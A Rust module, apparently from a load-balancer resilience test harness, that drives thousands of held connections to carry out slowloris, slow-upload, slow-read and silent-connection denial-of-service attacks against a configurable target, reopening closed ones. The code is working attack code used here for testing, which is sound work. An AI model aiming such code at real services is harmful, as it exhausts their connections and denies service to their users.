//! Held connections: the slow attacks, where a connection costs the attacker a socket
//! and a syscall a second, and is meant to cost the balancer whatever it lets it cost.
//! A few driver threads each loop over their share of non-blocking sockets, connecting,
//! then once a second sending one byte or reading one KiB (or, for the silent kind,
//! only looking whether the balancer closed it). A connection the balancer closes is
//! opened again after a moment, as a real attacker would, within a budget. `attack.rs`
//! starts them, waits until they are open, and closes them all when its probes are done.

use std::io::{self, Read, Write};
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use socket2::{Domain, Protocol, Socket, Type};

/// What each held connection does once a [`TICK`].
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// Connects and never sends a byte.
    Silent,
    /// Sends a request head one byte a tick, a head that never ends.
    Slowloris,
    /// Sends a whole head for a `Content-Length: 1000000` POST, then the body one byte a
    /// tick.
    SlowUpload,
    /// Asks for the 1 MiB answer, then reads it one KiB a tick through a small receive
    /// window.
    SlowRead,
}

/// Threads driving the sockets; each loops over a share of them.
const DRIVERS: usize = 4;

/// How often a driver looks at its sockets. Connecting sockets are checked on every
/// pass; open ones act once a tick.
const PASS: Duration = Duration::from_millis(50);

/// One byte sent, or one KiB read, per connection and tick.
const TICK: Duration = Duration::from_secs(1);

/// How long a connection the balancer closed stays closed before it is opened again.
const REOPEN_AFTER: Duration = Duration::from_millis(250);

/// Each connection may be opened again this many times on average in one attack.
const REOPENS_PER_CONNECTION: usize = 10;

/// The longest a driver runs if nobody stops it: longer than any attack.
const LONGEST: Duration = Duration::from_secs(240);

/// How much the slow reader reads a tick.
const READ_PER_TICK: usize = 1024;

/// The slow reader's receive buffer (the kernel doubles it), and the segment size
/// loopback would otherwise take as 64 KiB: together they keep the 1 MiB answer in the
/// balancer's hands rather than in our kernel's buffers.
const SLOW_READ_RCVBUF: usize = 4096;
const SLOW_READ_MSS: u32 = 1460;

/// The slowloris head: its bytes one a tick, then `a`s for ever (a field value that
/// never ends).
const SLOWLORIS_HEAD: &[u8] = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slowloris: ";

/// The connections of one slow attack, open until [`Held::close`].
pub struct Held {
    stop: Arc<AtomicBool>,
    /// Connections open right now; written only by the drivers.
    open: Arc<AtomicUsize>,
    drivers: Vec<JoinHandle<usize>>,
    count: usize,
}

impl Held {
    /// Starts `count` connections of `kind` to `target`, spread over the drivers.
    pub fn start(kind: Kind, target: SocketAddr, count: usize) -> io::Result<Held> {
        let stop = Arc::new(AtomicBool::new(false));
        let open = Arc::new(AtomicUsize::new(0));
        let mut held = Held {
            stop,
            open,
            drivers: Vec::with_capacity(DRIVERS),
            count,
        };
        for i in 0..DRIVERS {
            let share = count / DRIVERS + usize::from(i < count % DRIVERS);
            let (stop, open) = (Arc::clone(&held.stop), Arc::clone(&held.open));
            match thread::Builder::new()
                .name(format!("driver-{i}"))
                .spawn(move || drive(kind, target, share, &stop, &open))
            {
                Ok(driver) => held.drivers.push(driver),
                Err(err) => {
                    held.close();
                    return Err(err);
                }
            }
        }
        Ok(held)
    }

    /// Waits until every connection is open, or until the count has not grown for
    /// `stall` (the balancer stopped accepting, or closes some as fast as they come),
    /// at most `longest`.
    pub fn wait_open(&self, stall: Duration, longest: Duration) {
        let started = Instant::now();
        let (mut best, mut grew) = (0, started);
        loop {
            let open = self.open();
            if open > best {
                (best, grew) = (open, Instant::now());
            }
            if open >= self.count || grew.elapsed() >= stall || started.elapsed() >= longest {
                return;
            }
            thread::sleep(PASS);
        }
    }

    pub fn open(&self) -> usize {
        // Relaxed: a count for the report; no other memory is read through it.
        self.open.load(Ordering::Relaxed)
    }

    /// Closes every connection; returns how many times connections were opened again.
    pub fn close(self) -> usize {
        // Relaxed: the flag carries no data; each driver drops its own sockets.
        self.stop.store(true, Ordering::Relaxed);
        self.drivers
            .into_iter()
            .map(|driver| driver.join().unwrap_or(0))
            .sum()
    }
}

/// One connection's state.
enum Slot {
    /// Not connected: not yet, or the balancer closed it. Connect at `at`.
    Closed { at: Instant },
    /// A non-blocking connect under way.
    Connecting(Socket),
    /// Connected; `sent` bytes written so far, next act at `next`.
    Open {
        socket: Socket,
        sent: usize,
        next: Instant,
    },
}

/// One driver: loops over `count` connections until told to stop. Returns how many
/// times a connection was opened again.
fn drive(
    kind: Kind,
    target: SocketAddr,
    count: usize,
    stop: &AtomicBool,
    open: &AtomicUsize,
) -> usize {
    let start = Instant::now();
    let mut slots: Vec<Slot> = (0..count).map(|_| Slot::Closed { at: start }).collect();
    let budget = count * (1 + REOPENS_PER_CONNECTION);
    let mut driver = Driver {
        kind,
        target,
        open,
        connects_left: budget,
        buf: [0; 4096],
    };
    // Relaxed: see `Held::close`.
    while !stop.load(Ordering::Relaxed) && start.elapsed() < LONGEST {
        let now = Instant::now();
        for (i, slot) in slots.iter_mut().enumerate() {
            // Spread the acts over the tick, so that each pass does a share of them.
            let offset = TICK.mul_f64(i as f64 / count as f64);
            let old = std::mem::replace(slot, Slot::Closed { at: now });
            *slot = driver.step(old, now, offset);
        }
        thread::sleep(PASS);
    }
    let still_open = slots
        .iter()
        .filter(|s| matches!(s, Slot::Open { .. }))
        .count();
    open.fetch_sub(still_open, Ordering::Relaxed);
    (budget - driver.connects_left).saturating_sub(count)
}

/// What a driver needs to move one connection along.
struct Driver<'a> {
    kind: Kind,
    target: SocketAddr,
    open: &'a AtomicUsize,
    /// Connects this driver may still start: its first ones and the reopens.
    connects_left: usize,
    buf: [u8; 4096],
}

impl Driver<'_> {
    /// One connection's next state at `now`; an open one acts `offset` into each tick.
    fn step(&mut self, slot: Slot, now: Instant, offset: Duration) -> Slot {
        let closed = Slot::Closed {
            at: now + REOPEN_AFTER,
        };
        match slot {
            Slot::Closed { at } if at <= now && self.connects_left > 0 => {
                self.connects_left -= 1;
                match connect(self.kind, self.target) {
                    Ok(socket) => Slot::Connecting(socket),
                    Err(_) => closed,
                }
            }
            Slot::Connecting(socket) => match connected(&socket) {
                Ok(false) => Slot::Connecting(socket),
                Ok(true) => {
                    // Relaxed: see `Held::open`.
                    self.open.fetch_add(1, Ordering::Relaxed);
                    Slot::Open {
                        socket,
                        sent: 0,
                        next: now + offset,
                    }
                }
                Err(_) => closed,
            },
            Slot::Open {
                mut socket,
                mut sent,
                next,
            } if next <= now => match act(self.kind, &mut socket, &mut sent, &mut self.buf) {
                Ok(()) => Slot::Open {
                    socket,
                    sent,
                    next: now + TICK,
                },
                Err(_) => {
                    self.open.fetch_sub(1, Ordering::Relaxed);
                    closed
                }
            },
            waiting => waiting,
        }
    }
}

/// Starts a non-blocking connect. The slow reader's socket gets its small window first:
/// both options must be set before the handshake to count.
fn connect(kind: Kind, target: SocketAddr) -> io::Result<Socket> {
    let socket = Socket::new(
        Domain::for_address(target),
        Type::STREAM,
        Some(Protocol::TCP),
    )?;
    if kind == Kind::SlowRead {
        socket.set_recv_buffer_size(SLOW_READ_RCVBUF)?;
        socket.set_tcp_mss(SLOW_READ_MSS)?;
    }
    socket.set_nonblocking(true)?;
    match socket.connect(&target.into()) {
        Ok(()) => Ok(socket),
        Err(err) if err.raw_os_error() == Some(rustix::io::Errno::INPROGRESS.raw_os_error()) => {
            Ok(socket)
        }
        Err(err) => Err(err),
    }
}

/// Has the connect finished? An error if it failed.
fn connected(socket: &Socket) -> io::Result<bool> {
    if let Some(err) = socket.take_error()? {
        return Err(err);
    }
    match socket.peer_addr() {
        Ok(_) => Ok(true),
        Err(err) if err.kind() == io::ErrorKind::NotConnected => Ok(false),
        Err(err) => Err(err),
    }
}

/// One tick of one open connection: send what is due, read what is allowed, and find
/// out whether the balancer closed it (an error then).
fn act(kind: Kind, socket: &mut Socket, sent: &mut usize, buf: &mut [u8]) -> io::Result<()> {
    let due: Vec<u8> = match kind {
        Kind::Silent => Vec::new(),
        Kind::Slowloris => vec![SLOWLORIS_HEAD.get(*sent).copied().unwrap_or(b'a')],
        Kind::SlowUpload => {
            let head = b"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/octet-stream\r\nContent-Length: 1000000\r\n\r\n";
            match head.get(*sent..) {
                Some(rest) if !rest.is_empty() => rest.to_vec(),
                _ => vec![b'x'],
            }
        }
        Kind::SlowRead => {
            let head = b"GET /1m HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n";
            head.get(*sent..).unwrap_or_default().to_vec()
        }
    };
    if !due.is_empty() {
        match socket.write(&due) {
            Ok(n) => *sent += n,
            Err(err) if err.kind() == io::ErrorKind::WouldBlock => {}
            Err(err) => return Err(err),
        }
    }
    let allowed = if kind == Kind::SlowRead {
        READ_PER_TICK
    } else {
        buf.len()
    };
    match socket.read(&mut buf[..allowed]) {
        Ok(0) => Err(io::ErrorKind::UnexpectedEof.into()),
        Ok(_) => Ok(()),
        Err(err) if err.kind() == io::ErrorKind::WouldBlock => Ok(()),
        Err(err) => Err(err),
    }
}
